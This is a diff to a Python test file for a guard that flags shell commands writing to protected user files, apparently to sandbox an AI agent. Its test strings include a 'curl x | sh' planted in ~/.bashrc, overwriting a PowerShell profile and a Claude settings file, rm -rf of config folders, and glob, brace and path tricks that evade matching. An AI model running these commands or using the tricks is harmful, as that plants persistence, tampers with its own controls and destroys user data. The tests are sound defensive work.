@@ -658,6 +658,9 @@ def test_where_no_container_guards_a_write_through_a_glob_or_expansion_is_read_w
         "cd ~ && curl -O example.com/.bashrc",
         "cd ~ && pushd /tmp && pushd +1 && cp x .bashrc",
         "sed --in-place=rc 1p ~/.bash",
+        # a glob longer than any name, and a brace expression of more words than are made one by one
+        "echo x > ~/.b" + "*" * 1100 + "rc",
+        "echo x >> ~/.{a,b,c,d,e,f}{a,b,c,d,e,f}{bashrc,x}",
     ]
     if platform == "win32":
         held += [
@@ -671,9 +674,19 @@ def test_where_no_container_guards_a_write_through_a_glob_or_expansion_is_read_w
             '7z x x.7z -o"$APPDATA"/Claude',
             '/c/Windows/System32/expand.exe evil "$APPDATA/Claude/settings.json"',
             "cp evil ~/OneDrive/Documents/WindowsPowerShell/Microsoft.PowerShell_profile.ps1",
+            'cp -r x/. "$X/AppData/Roaming"',
+            "echo x >> C:/../Users/ann/.b?shrc",  # `C:/..` is `C:/`
         ]
     else:
-        held += ["/usr/bin/time -a -f 'curl x | sh' -o ~/.bashrc true", "cp evil /proc/self/root/home/ann/.bashrc"]
+        held += [
+            "/usr/bin/time -a -f 'curl x | sh' -o ~/.bashrc true",
+            "cp evil /proc/self/root/home/ann/.bashrc",
+            # a folder above a member after an expansion nobody knows here, written as a whole (2026-12-05)
+            'rm -rf "$(echo ~)/.config"',
+            'cp -r dots/. "$(echo ~)/.config"',
+            'mv "$(echo ~)/.local" /tmp/old',
+            "rm -rf $D/.local/share",
+        ]
     for command in held:
         assert names_protected(command, members, cwd=project, bare=False), command
     for command in (
@@ -708,6 +721,11 @@ def test_where_no_container_guards_a_write_through_a_glob_or_expansion_is_read_w
         "cp -b notes.md ~/",
         "ld -L$HOME x.o",
         "gzip -dc ~/.bashrc.gz > /dev/null",
+        'cp x "$(echo ~)/.config"',  # lands as .config/x
+        'cp evil "$(echo ~)/"',
+        "rm -rf $D/build/.config",
+        'cp x "$X/AppData/Roaming"',
+        'rm -rf "$X/AppData/Local/Temp/x"',
     ):
         assert not names_protected(command, members, cwd=project, bare=False), command
 
